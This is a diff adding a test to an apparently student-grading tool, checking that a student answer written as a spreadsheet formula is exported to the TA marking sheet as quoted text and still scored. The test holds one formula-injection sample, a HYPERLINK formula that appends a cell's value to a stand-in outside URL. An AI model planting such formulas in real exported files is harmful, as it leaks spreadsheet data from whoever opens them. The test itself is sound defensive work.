@@ -176,6 +176,21 @@ def test_a_changed_answer_loses_its_mark_and_is_pending_again(reference, tmp_pat
     assert statuses == ["changed since marked", "marked", "marked", "marked"]
 
 
+def test_an_answer_that_is_a_formula_is_shown_as_text_and_still_marked(reference, tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?"&A1, "see")'
+    place(tmp_path / "in", "ada", answered(formula))
+    graded(reference, tmp_path / "in", tmp_path / "out")
+    rows = sheet_rows(tmp_path / "out")
+    row = next(row for row in rows if row["question"] == "q_sigmoid")
+    assert row["answer"] == "'" + formula  # a spreadsheet shows it, never runs it
+    row["points"] = "1"
+    marks = written.read_sheet(
+        save(rows, tmp_path / "m.csv"), tmp_path / "out", ASSIGNMENT.questions
+    )
+    assert written.merge(marks, tmp_path / "out") == 1
+    assert written.student_part(tmp_path / "out" / "ada", ASSIGNMENT.questions).score == 1
+
+
 def test_a_deleted_answer_cell_is_missing_and_costs_no_ta_time(reference, tmp_path):
     notebook = json.loads(MNIST_SOLUTION.read_text())
     notebook["cells"] = [
